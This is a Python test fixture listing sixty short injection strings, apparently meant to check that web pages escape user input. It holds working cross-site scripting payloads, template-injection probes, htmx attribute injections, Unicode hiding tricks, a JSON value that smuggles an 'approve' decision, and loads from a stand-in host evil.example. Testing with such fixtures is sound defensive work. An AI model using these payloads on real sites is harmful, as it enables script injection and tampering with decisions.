"""Sixty texts that run, load or change something where a page takes them for more than text.

None is longer than 39 characters, so that any fits into a name and three into a title. `ran()` is the trap of the
pages that are tested; everything that is loaded comes from no host of ours, or from a path that is no page.
"""

INJECTIONS = (
    # elements
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<script src=//evil.example/></script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<scr<script>ipt>ran()</script>",
    "<iframe src=javascript:ran()></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;/x>",
    "<form action=//evil.example><button>A",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</style><img src=x onerror=ran()>",
    "<template><script>ran()</script>",
    "<noscript><p id='</noscript><script>A",
    # attributes and event handlers
    "<img src=x onerror=ran()>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    '" onmouseover="ran()" x="',
    "' autofocus onfocus='ran()",
    "<body onload=ran()>",
    "<details open ontoggle=ran()>A",
    "<video><source onerror=ran()></video>",
    "<img/src=x/onerror=ran()>",
    "<p onpointerenter=ran()>A</p>",
    # svg and mathml
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() dur=1s>",
    "<svg><use href=//evil.example#x></svg>",
    "<math><mtext><img src=x onerror=ran()>",
    # template languages
    "{{ 7|add:'7' }}",
    "{% load static %}{% now 'Y' %}",
    "{# gone #}left",
    "${ran()}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    # addresses
    "javascript:ran()",
    "<a href=javascript:ran()>A</a>",
    "data:text/html,<script>ran()</script>",
    "[A](javascript:ran())",
    # entities and encodings
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;img src=x onerror=ran()&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "\u02bcA\u02bd\u2039script\u203aran()",
    # marks that hide, turn or separate
    "A\u202eBCD\u202c E",
    "\ufeff<img src=x onerror=ran()>",
    "A\u2028ran()//\u2029B",
    "\u2066<b>\u2069A\u200b\u200dB",
    # htmx
    "<b hx-get=/x hx-trigger=load>A</b>",
    "<b data-hx-get=/x data-hx-trigger=load>",
    '<b hx-on::load="ran()">A</b>',
    "<p id=plate hx-swap-oob=true>A</p>",
    "<b ws-connect=/ws/x hx-ext=ws>A</b>",
    # comments, styles, JSON
    "--><img src=x onerror=ran()>",
    "<!--5--><p id=ws>A</p>",
    "<style>*{background:url(//a.example)}",
    '"}],"decision":"approve","x":[{"a":"',
)
